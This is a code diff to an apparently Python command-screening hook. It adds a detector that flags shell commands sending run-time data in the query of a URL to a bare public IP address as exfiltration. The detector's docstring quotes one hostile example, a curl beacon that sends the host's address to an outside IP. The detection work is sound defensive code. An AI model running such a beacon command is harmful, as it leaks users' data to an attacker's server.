@@ -228,7 +228,9 @@ def _upload(invocation: Invocation, home: str) -> Verdict | None:
                 what = sensitive_source(candidate, home, invocation.cwd)
                 if what and (candidate != value or _sends_file(values, index)):
                     return _verdict(EXFILTRATION, invocation, f"{name} uploads {what}")
-        return _substituted(invocation, home) or _encoded_host(invocation)
+        return (
+            _substituted(invocation, home) or _encoded_host(invocation) or _query_to_raw_address(invocation)
+        )
     batch = _batch_upload([], invocation, home)
     if batch:
         return _verdict(EXFILTRATION, invocation, f"{name} uploads {batch}")
@@ -425,6 +427,53 @@ def _drop_host(invocation: Invocation) -> str | None:
         match = re.match(r"^(?:[a-z]+://)?([^/:?#\s=@]+)", value, re.IGNORECASE)
         if match and DROPS.match(match.group(1)):
             return match.group(1)
+    return None
+
+
+_RAW_ADDRESS_URL = lazy_compile(
+    r"^(?:https?|ftp)://(?:[^/@?#]*@)?(?P<host>\d{1,3}(?:\.\d{1,3}){3}|\[[0-9a-f:.]+\])(?::\d+)?"
+    r"/[^?#]*\?(?P<query>.+)$",
+    re.IGNORECASE,
+)
+
+
+def _on_the_internet(host: str) -> bool:
+    """Whether an IP address is outside this machine and its private networks (RFC 1918, ULA, CGNAT)."""
+    import ipaddress  # only for a URL to a bare address: the hook's import stays small
+
+    try:
+        address = ipaddress.ip_address(host.strip("[]"))
+    except ValueError:
+        return False
+    private = (ipaddress.ip_network(n) for n in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16",
+                                                  "100.64.0.0/10", "fc00::/7"))  # fmt: skip
+    return not (
+        address.is_loopback
+        or address.is_link_local
+        or address.is_unspecified
+        or address.is_multicast
+        or any(address.version == network.version and address in network for network in private)
+    )
+
+
+def _query_to_raw_address(invocation: Invocation) -> Verdict | None:
+    """``curl http://88.218.17.151/ip.php?ip=$ip``: host data in the query of a URL to a bare address.
+
+    Malware reports home this way (a beacon carrying the victim's address, keys, a shell's
+    link) to a server that has no name to take down; a developer's API has a name, and a
+    bare address of their own network (``192.168.1.20``, ``127.0.0.1``) is not the internet.
+    """
+    command = invocation.command
+    for word in invocation.args:
+        text = command.render(word)
+        match = _RAW_ADDRESS_URL.match(text)
+        if match is None or not _on_the_internet(match["host"]):
+            continue
+        query = match["query"]
+        if "$" in query or "`" in query:
+            return _verdict(
+                EXFILTRATION, invocation, f"sends run-time data in the query of a URL to {match['host']}"
+            )
     return None
 
 
